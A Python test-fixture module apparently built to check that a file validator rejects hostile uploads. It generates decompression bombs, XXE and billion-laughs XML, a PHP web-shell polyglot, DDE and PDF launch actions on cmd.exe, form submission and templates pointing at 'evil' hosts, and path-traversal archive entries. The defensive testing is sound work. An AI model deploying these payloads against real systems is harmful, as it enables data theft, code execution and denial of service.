"""Hostile files, built in memory: each claims to be something and is something else, or more, or endlessly much."""

from __future__ import annotations

import gzip
import io
import struct
import zipfile
import zlib
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name
from PIL import Image

from qinqing.files.tests.harmless import (
    chunk,
    content_types,
    docx,
    docx_parts,
    jpeg,
    ofd_parts,
    packed,
    pdf,
    pdf_with,
    png,
    xlsx_parts,
)

ZEROS = bytes(1_000_000)
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2_000)
XXE = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "ha">'
    + b"".join(b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 10)).replace(
        b"&a0;", b"&a;"
    )
    + b"]><r>&a9;</r>"
)


def bomb(megabytes: int, first: bytes = b"") -> bytes:
    """What inflates to `first` and so many megabytes of zeros: one packed megabyte, said again and again."""
    packing = zlib.compressobj(9)
    head = packing.compress(first) + packing.flush(zlib.Z_FULL_FLUSH)
    again = packing.compress(ZEROS) + packing.flush(zlib.Z_FULL_FLUSH)
    check = zlib.adler32(first)
    for _ in range(megabytes):
        check = zlib.adler32(ZEROS, check)
    return head + again * megabytes + b"\x03\x00" + struct.pack("!I", check)


def png_of(width: int, height: int, *more: bytes, idat: bytes = b"") -> bytes:
    header = struct.pack("!IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + b"".join(more)
        + chunk(b"IDAT", idat or zlib.compress(b"\0"))
        + chunk(b"IEND", b"")
    )


def jpeg_of(width: int, height: int) -> bytes:
    data = jpeg()
    at = data.index(b"\xff\xc0") + 5
    return data[:at] + struct.pack("!HH", height, width) + data[at + 4 :]


def gif_of(width: int, height: int) -> bytes:
    return (
        b"GIF89a"
        + struct.pack("<HH", width, height)
        + b"\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
    )


def tiff_of(width: int, height: int) -> bytes:
    tags = ((256, width), (257, height), (258, 1), (259, 1), (262, 0), (273, 8), (278, height), (279, 1))
    rows = b"".join(struct.pack("<HHII", tag, 4, 1, value) for tag, value in tags)
    return b"II*\x00" + struct.pack("<IH", 8, len(tags)) + rows + bytes(4)


def tiff_in_a_circle() -> bytes:
    return tiff_of(1, 1)[:-4] + struct.pack("<I", 8)


def webp_of(width: int, height: int) -> bytes:
    size = (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    body = b"WEBPVP8X" + struct.pack("<I", 10) + bytes(4) + size
    return b"RIFF" + struct.pack("<I", len(body)) + body


def located(kind: str) -> bytes:
    exif = Image.Exif()
    exif.get_ifd(0x8825)[2] = (34.0, 1.0, 30.0)
    if kind == "PNG":
        return png_of(1, 1, chunk(b"eXIf", exif.tobytes().removeprefix(b"Exif\0\0")))
    out = io.BytesIO()
    Image.new("L", (8, 8)).save(out, kind, exif=exif)
    return out.getvalue()


def many_parts(count: int) -> bytes:
    return packed({**docx_parts(), **{f"word/{n}.xml": b"<a/>" for n in range(count)}})


def lying_count() -> bytes:
    """The last record says one part; the directory holds thousands."""
    data = bytearray(many_parts(3_000))
    data[-14:-10] = struct.pack("<HH", 1, 1)
    return bytes(data)


def endless_directory() -> bytes:
    data = bytearray(docx())
    data[-10:-6] = struct.pack("<I", 0xFFFFFFFF)
    return bytes(data)


def overlapping() -> bytes:
    """A hundred parts that are all the same bytes of the file."""
    data = packed({**docx_parts(), "word/media/image1.bmp": bytes(400_000)}, zipfile.ZIP_DEFLATED)
    end = data.rindex(b"PK\x05\x06")
    parts, length, start = struct.unpack("<HLL", data[end + 10 : end + 20])
    directory = data[start:end]
    last = directory[directory.rindex(b"PK\x01\x02") :]
    copies = b"".join(last.replace(b"image1", b"imag%02d" % n) for n in range(99))
    total = parts + 99
    tail = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, total, total, length + len(copies), start, 0)
    return data[:end] + copies + tail


def local_name_differs() -> bytes:
    data = docx()
    at = data.index(b"word/document.xml")
    return data[:at] + b"evil/document.xml" + data[at + 17 :]


def stated_size_lies() -> bytes:
    """The directory says ten bytes; the part unpacks to ten million."""
    data = bytearray(packed({**docx_parts(), "word/big.xml": bytes(10_000_000)}, zipfile.ZIP_DEFLATED))
    at = data.rindex(b"PK\x01\x02")
    data[at + 24 : at + 28] = struct.pack("<I", 10)
    return bytes(data)


def encrypted_part() -> bytes:
    data = bytearray(docx())
    data[data.rindex(b"PK\x01\x02") + 8] |= 1
    return bytes(data)


def link() -> bytes:
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a") as package:
        info = zipfile.ZipInfo("word/link.xml")
        info.external_attr = 0o120777 << 16
        package.writestr(info, "/etc/passwd")
    return out.getvalue()


def twice_named() -> bytes:
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a") as package:
        package.writestr("WORD/DOCUMENT.XML", "<a/>")
    return out.getvalue()


def nul_named() -> bytes:
    return packed({**docx_parts(), "word/aXb.xml": b"<a/>"}).replace(b"word/aXb.xml", b"word/a\x00b.xml")


def within(levels: int) -> bytes:
    data = b"deep"
    for _ in range(levels):
        data = packed({"a.zip": data})
    return data


def with_part(name: str, data: bytes) -> bytes:
    return packed({**docx_parts(), name: data})


def with_relation(kind: str, target: str, outside: bool = True) -> bytes:
    mode = ' TargetMode="External"' if outside else ""
    text = f'<Relationships><Relationship Id="r1" Type="http://x/{kind}" Target="{target}"{mode}/></Relationships>'
    return with_part("word/_rels/document.xml.rels", text.encode())


def with_field(*pieces: str) -> bytes:
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    text = f'<w:document xmlns:w="http://w"><w:p>{runs}</w:p></w:document>'
    return with_part("word/document.xml", text.encode())


def deep_xml() -> bytes:
    return packed({**docx_parts(), "word/deep.xml": b"<a>" * 30_000_000}, zipfile.ZIP_DEFLATED)


def deep_stored_xml() -> bytes:
    """Below every limit on sizes, and as deep as it is long."""
    return packed({**docx_parts(), "word/deep.xml": b"<a>" * 6_000_000})


def pdf_bomb() -> bytes:
    document = pikepdf.new()
    document.add_blank_page()
    stream = document.make_stream(b"")
    stream.write(bomb(200), filter=Name.FlateDecode)
    document.Root.One = stream
    document.Root.Other = document.make_stream(b"")
    document.Root.Other.write(bomb(250), filter=Name.FlateDecode)
    return _saved(document)


def pdf_bomb_in_two_layers() -> bytes:
    twice = zlib.compress(bomb(100))
    head = b"3 0 obj\n<< /Filter [ /FlateDecode /FlateDecode ] /Length %d >>\nstream\n" % len(twice)
    return classic([*EMPTY, head + twice + b"\nendstream\nendobj\n"])


def pdf_object_stream_bomb(megabytes: int) -> bytes:
    """Packed objects are unpacked before anything is known of them: the system's bound on memory must hold."""
    body = bomb(megabytes, b"9 0 ")
    return _by_hand(
        [
            b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /X 9 0 R >>\nendobj\n",
            b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n",
            b"3 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n"
            % len(body)
            + body
            + b"\nendstream\nendobj\n",
        ],
        packed_in={9: (3, 0)},
    )


def _by_hand(objects: list[bytes], packed_in: dict[int, tuple[int, int]]) -> bytes:
    data, offsets = b"%PDF-1.5\n", {}
    for number, text in enumerate(objects, 1):
        offsets[number] = len(data)
        data += text
    here, size = len(data), 11
    rows = b""
    for number in range(size):
        if number in packed_in:
            rows += struct.pack("!BIH", 2, *packed_in[number])
        elif number in offsets or number == size - 1:
            rows += struct.pack("!BIH", 1, offsets.get(number, here), 0)
        else:
            rows += struct.pack("!BIH", 0, 0, 0)
    head = b"<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>" % (size, len(rows))
    return data + b"%d 0 obj\n%s\nstream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % (
        size - 1,
        head,
        rows,
        here,
    )


EMPTY = (
    b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n",
    b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n",
)


def classic(objects: list[bytes]) -> bytes:
    """A PDF file of these objects, numbered from 1, with a table at its end."""
    at, table = len(b"%PDF-1.4\n"), [b"0000000000 65535 f \n"]
    for text in objects:
        table.append(b"%010d 00000 n \n" % at)
        at += len(text)
    tail = b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(table), at)
    return b"%PDF-1.4\n" + b"".join(objects) + b"xref\n0 %d\n" % len(table) + b"".join(table) + tail


def pdf_of_objects(count: int) -> bytes:
    return classic([*EMPTY, *(b"%d 0 obj\n1\nendobj\n" % n for n in range(3, count))])


def deep_pdf(depth: int) -> bytes:
    return classic([EMPTY[0], EMPTY[1].replace(b"/Count 0", b"/X " + b"[" * depth + b"]" * depth)])


def action(**given: object) -> bytes:
    return pdf_with(OpenAction=Dictionary(**given))


def packed_action() -> bytes:
    return pdf_with(object_streams=True, OpenAction=Dictionary(S=Name.JavaScript, JS="app.alert(1)"))


def escaped_action() -> bytes:
    return action(S=Name("/JavaScriptQQ"), JS="1").replace(b"/JavaScriptQQ", b"/J#61vaScript")


def locked_pdf() -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf())) as document:
        document.save(out, encryption=pikepdf.Encryption(owner="o", user="u"))
    return out.getvalue()


def restricted_pdf() -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf())) as document:
        document.save(out, encryption=pikepdf.Encryption(owner="o", user=""))
    return out.getvalue()


def pdf_with_file() -> bytes:
    document = pikepdf.new()
    document.add_blank_page()
    document.attachments["a.exe"] = b"MZ"
    return _saved(document)


def pdf_with_huge_picture() -> bytes:
    document = pikepdf.new()
    document.add_blank_page()
    document.Root.X = document.make_stream(
        b"", Type=Name.XObject, Subtype=Name.Image, Width=90_000, Height=90_000
    )
    return _saved(document)


def _saved(document: pikepdf.Pdf, **how: object) -> bytes:
    out = io.BytesIO()
    document.save(out, **how)
    return out.getvalue()


def zip_behind(data: bytes) -> bytes:
    return data + packed({"a.exe": b"MZ"})


def zip_inside_pdf() -> bytes:
    """Both readers are content: the archive ends in a comment that is the end of the PDF."""
    archive = bytearray(packed({"a.exe": b"MZ"}))
    tail = b"\n%%EOF\n"
    archive[-2:] = struct.pack("<H", len(tail))
    return pdf() + b"%" + bytes(archive) + tail


PDF, JPG, PNG, DOCX, XLSX, OFD = "a.pdf", "a.jpg", "a.png", "a.docx", "a.xlsx", "a.ofd"
# What it is called: name, the code word expected, how it is made.
HOSTILE: dict[str, tuple[str, str, Callable[[], bytes]]] = {
    # bombs
    "压缩炸弹：ZIP 当 DOCX": (DOCX, "files.unpacked", lambda: packed({**docx_parts(), "word/big.xml": ZEROS * 60}, zipfile.ZIP_DEFLATED)),
    "压缩炸弹：XLSX 工作表": (XLSX, "files.unpacked", lambda: packed({**xlsx_parts(), "xl/worksheets/sheet1.xml": ZEROS * 160}, zipfile.ZIP_DEFLATED)),
    "压缩炸弹：各部分重叠": (DOCX, "files.unpacked", overlapping),
    "压缩炸弹：GZIP 当 PDF": (PDF, "files.wrong_type", lambda: gzip.compress(ZEROS * 20)),
    "压缩炸弹：PNG 数据": (PNG, "", lambda: png_of(10, 10, idat=bomb(50))),
    "压缩炸弹：PNG 说明文字": (PNG, "files.broken", lambda: png_of(10, 10, chunk(b"zTXt", b"a\0\0" + bomb(50)))),
    "压缩炸弹：PNG 色彩": (PNG, "files.broken", lambda: png_of(10, 10, chunk(b"iCCP", b"a\0\0" + bomb(50)))),
    "压缩炸弹：PDF 流": (PDF, "files.unpacked", pdf_bomb),
    "压缩炸弹：PDF 两层流": (PDF, "files.unpacked", pdf_bomb_in_two_layers),
    "压缩炸弹：PDF 对象流": (PDF, "files.unpacked", lambda: pdf_object_stream_bomb(450)),
    "压缩炸弹：PDF 对象流，小些": (PDF, "files.unpacked", lambda: pdf_object_stream_bomb(100)),
    "大小说谎": (DOCX, "files.broken", stated_size_lies),
    # too many, too deep
    "一万个部分": (DOCX, "files.too_many_parts", lambda: many_parts(10_000)),
    "部分数说谎": (DOCX, "files.too_many_parts", lying_count),
    "目录无尽": (DOCX, "files.too_many_parts", endless_directory),
    "套五十层的压缩包": (DOCX, "files.wrong_type", lambda: within(50)),
    "文档里套压缩包": (DOCX, "files.nested", lambda: with_part("word/media/image1.png", within(3))),
    "文档里套 RAR": (DOCX, "files.nested", lambda: packed({**docx_parts(), "word/media/image1.png": b"Rar!\x1a\x07" + ZEROS[:99]}, zipfile.ZIP_DEFLATED)),
    "文档里套 GZIP": (DOCX, "files.nested", lambda: with_part("word/media/image1.wmf", gzip.compress(ZEROS))),
    "XML 深三千万层": (DOCX, "files.unpacked", deep_xml),
    "XML 深六百万层": (DOCX, "files.too_much_work", deep_stored_xml),
    "PDF 数组深十万层": (PDF, "files.broken", lambda: deep_pdf(100_000)),
    "PDF 三十万个对象": (PDF, "files.too_many_parts", lambda: pdf_of_objects(300_000)),
    # pixels
    "像素洪水：PNG": (PNG, "files.pixels", lambda: png_of(100_000, 100_000)),
    "像素洪水：PNG 极值": (PNG, "files.pixels", lambda: png_of(2**31 - 1, 2**31 - 1)),
    "像素洪水：JPG": (JPG, "files.pixels", lambda: jpeg_of(65_000, 65_000)),
    "像素洪水：PDF 里的图": (PDF, "files.pixels", pdf_with_huge_picture),
    "像素洪水：GIF 当 PNG": (PNG, "files.wrong_type", lambda: gif_of(65_535, 65_535)),
    "像素洪水：TIFF 当 JPG": (JPG, "files.wrong_type", lambda: tiff_of(90_000, 90_000)),
    "像素洪水：WebP 当 PNG": (PNG, "files.wrong_type", lambda: webp_of(16_000_000, 16_000_000)),
    "像素洪水：文档里的 GIF": (DOCX, "files.pixels", lambda: with_part("word/media/image1.gif", gif_of(65_535, 65_535))),
    "像素洪水：文档里的 TIFF": (DOCX, "files.pixels", lambda: with_part("word/media/image1.tif", tiff_of(90_000, 90_000))),
    "像素洪水：文档里的 WebP": (DOCX, "files.part_kind", lambda: with_part("word/media/image1.webp", webp_of(16_000_000, 16_000_000))),
    "TIFF 目录绕圈": (DOCX, "", lambda: with_part("word/media/image1.tif", tiff_in_a_circle())),
    "照片带拍摄地点": (JPG, "files.located", lambda: located("JPEG")),
    "PNG 带拍摄地点": (PNG, "files.located", lambda: located("PNG")),
    "文档里的照片带拍摄地点": (DOCX, "files.located", lambda: with_part("word/media/image1.jpg", located("JPEG"))),
    # two at once
    "JPG 后接 ZIP": (JPG, "files.two_kinds", lambda: zip_behind(jpeg())),
    "PNG 后接 ZIP": (PNG, "files.two_kinds", lambda: zip_behind(png())),
    "PDF 后接 ZIP": (PDF, "files.two_kinds", lambda: zip_behind(pdf())),
    "PDF 兼 ZIP": (PDF, "files.two_kinds", zip_inside_pdf),
    "JPG 后接 RAR": (JPG, "files.two_kinds", lambda: jpeg() + b"Rar!\x1a\x07\x00" + ZEROS[:99]),
    "JPG 兼 PDF": (JPG, "files.two_kinds", lambda: jpeg()[:2] + b"\xff\xfe\x00\x10%PDF-1.4 abcde" + jpeg()[2:]),
    "PNG 兼网页": (PNG, "files.two_kinds", lambda: png_of(1, 1, chunk(b"tEXt", b"a\0<script>alert(1)</script>"))),
    "JPG 带 PHP": (JPG, "files.two_kinds", lambda: jpeg() + b"\xff\xd8\xff<?php system($_GET[0]);"),
    "PDF 兼网页": (PDF, "files.two_kinds", lambda: b"%PDF-1.4\n<html><script>alert(1)</script>" + pdf()[9:]),
    "PNG 后接数据": (PNG, "files.trailing", lambda: png() + b"MZ" + ZEROS[:99]),
    "JPG 后接影片": (JPG, "files.trailing", lambda: jpeg() + b"\0\0\0\x18ftypmp42" + ZEROS[:99]),
    "PDF 后接程序": (PDF, "files.trailing", lambda: pdf() + b"MZ" + b"\x90" * 99),
    "DOCX 后接数据": (DOCX, "files.trailing", lambda: docx() + b"MZ"),
    "DOCX 前接程序": (DOCX, "files.wrong_type", lambda: b"MZ" + bytes(99) + docx()),
    # names inside
    "路径穿越：上级": (DOCX, "files.part_name", lambda: with_part("../../etc/cron.d/a.xml", b"<a/>")),
    "路径穿越：绝对": (DOCX, "files.part_name", lambda: with_part("/etc/a.xml", b"<a/>")),
    "路径穿越：盘符": (DOCX, "files.part_name", lambda: with_part("C:/a.xml", b"<a/>")),
    "路径穿越：反斜线": (DOCX, "files.part_name", lambda: with_part("word\\..\\..\\a.xml", b"<a/>")),
    "路径穿越：空字符": (DOCX, "files.part_name", nul_named),
    "符号链接": (DOCX, "files.part_name", link),
    "同名两份": (DOCX, "files.broken", twice_named),
    "两处名称不同": (DOCX, "files.broken", local_name_differs),
    # what runs
    "宏：DOCM 改名": (DOCX, "files.macros", lambda: packed({**docx_parts(), "[Content_Types].xml": content_types("application/vnd.ms-word.document.macroEnabled.main+xml")})),
    "宏：vbaProject": (DOCX, "files.macros", lambda: with_part("word/vbaProject.bin", OLE)),
    "宏：Excel 4.0": (XLSX, "files.macros", lambda: packed({**xlsx_parts(), "xl/macrosheets/sheet1.xml": b"<a/>"})),
    "嵌入 OLE": (DOCX, "files.embedded", lambda: with_part("word/embeddings/oleObject1.bin", OLE)),
    "嵌入 OLE 改名": (DOCX, "files.embedded", lambda: with_part("word/media/image1.png", OLE)),
    "嵌入程序": (DOCX, "files.embedded", lambda: with_part("word/media/image1.emf", b"MZ" + bytes(99))),
    "ActiveX": (DOCX, "files.active", lambda: with_part("word/activeX/activeX1.xml", b"<a/>")),
    "部分不明": (DOCX, "files.part_kind", lambda: with_part("word/a.hta", b"<a/>")),
    "模板在外": (DOCX, "files.outside", lambda: with_relation("attachedTemplate", "http://evil/x.dotm")),
    "图片在共享盘": (DOCX, "files.outside", lambda: with_relation("image", r"\\evil\share\a.png")),
    "链接运行脚本": (DOCX, "files.outside", lambda: with_relation("hyperlink", "javascript:alert(1)")),
    "DDE": (DOCX, "files.active", lambda: with_field('DDEAUTO c:\\\\windows\\\\cmd.exe "/c calc"')),
    "DDE 拆开写": (DOCX, "files.active", lambda: with_field("DD", "EAU", "TO cmd")),
    "外部数据": (XLSX, "files.outside", lambda: packed({**xlsx_parts(), "xl/connections.xml": b"<a/>"})),
    "SVG 脚本": (DOCX, "files.active", lambda: with_part("word/media/image1.svg", b"<svg><script>1</script></svg>")),
    "SVG 事件": (DOCX, "files.active", lambda: with_part("word/media/image1.svg", b'<svg onload="1"/>')),
    "PDF 脚本": (PDF, "files.active", lambda: action(S=Name.JavaScript, JS="app.alert(1)")),
    "PDF 脚本在对象流里": (PDF, "files.active", packed_action),
    "PDF 脚本名字转义": (PDF, "files.active", escaped_action),
    "PDF 启动程序": (PDF, "files.active", lambda: action(S=Name.Launch, F="cmd.exe")),
    "PDF 提交表单": (PDF, "files.active", lambda: action(S=Name.SubmitForm, F="http://evil/")),
    "PDF 打开别的文件": (PDF, "files.active", lambda: action(S=Name.GoToR, F=r"\\evil\a.pdf")),
    "PDF 内嵌文件": (PDF, "files.embedded", pdf_with_file),
    "PDF 的 XFA 表单": (PDF, "files.active", lambda: pdf_with(AcroForm=Dictionary(Fields=Array(), XFA="<xdp/>"))),
    # XML
    "XXE：DOCX": (DOCX, "files.doctype", lambda: with_part("word/document.xml", XXE)),
    "XXE：UTF-16": (DOCX, "files.doctype", lambda: with_part("word/document.xml", XXE.decode().replace("?>", ' encoding="UTF-16"?>', 1).encode("utf-16"))),
    "XXE：关系": (DOCX, "files.doctype", lambda: with_part("word/_rels/document.xml.rels", XXE)),
    "XXE：内容类型": (XLSX, "files.doctype", lambda: packed({**xlsx_parts(), "[Content_Types].xml": XXE})),
    "XXE：SVG": (DOCX, "files.doctype", lambda: with_part("word/media/image1.svg", XXE)),
    "XXE：OFD": (OFD, "files.doctype", lambda: packed({**ofd_parts(), "Doc_0/Document.xml": XXE})),
    "十亿个笑": (DOCX, "files.doctype", lambda: with_part("word/document.xml", LAUGHS)),
    # wrong, broken, locked
    "程序当 PDF": (PDF, "files.wrong_type", lambda: b"MZ" + bytes(999)),
    "网页当 PDF": (PDF, "files.wrong_type", lambda: b"<!DOCTYPE html><script>alert(1)</script>"),
    "SVG 当 PNG": (PNG, "files.wrong_type", lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    "旧 DOC 当 DOCX": (DOCX, "files.wrong_type", lambda: OLE),
    "XLSX 当 DOCX": (DOCX, "files.wrong_type", lambda: packed(xlsx_parts())),
    "DOCX 当 OFD": (OFD, "files.wrong_type", docx),
    "JPG 当 PNG": (PNG, "files.wrong_type", jpeg),
    "RTF 当 DOCX": (DOCX, "files.wrong_type", lambda: b"{\\rtf1\\object}"),
    "测试病毒当 PDF": (PDF, "files.wrong_type", lambda: EICAR),
    "空文件": (PDF, "files.empty", lambda: b""),
    "一个字节": (PNG, "files.wrong_type", lambda: b"\x89"),
    "只有开头：PNG": (PNG, "files.broken", lambda: png()[:20]),
    "只有开头：JPG": (JPG, "files.broken", lambda: jpeg()[:-40]),
    "只有开头：PDF": (PDF, "files.broken", lambda: pdf()[:-60]),
    "只有开头：DOCX": (DOCX, "files.trailing", lambda: docx()[:-10]),
    "中间坏了：DOCX": (DOCX, "files.broken", lambda: docx().replace(b"PK\x01\x02", b"PK\x01\x03", 1)),
    "PDF 目录指向别处": (PDF, "files.broken", lambda: pdf().replace(b"startxref\n", b"startxref\n9", 1)),
    "加密 PDF": (PDF, "files.encrypted", locked_pdf),
    "限制权限的 PDF": (PDF, "files.encrypted", restricted_pdf),
    "加密 DOCX": (DOCX, "files.encrypted", encrypted_part),
}  # fmt: skip
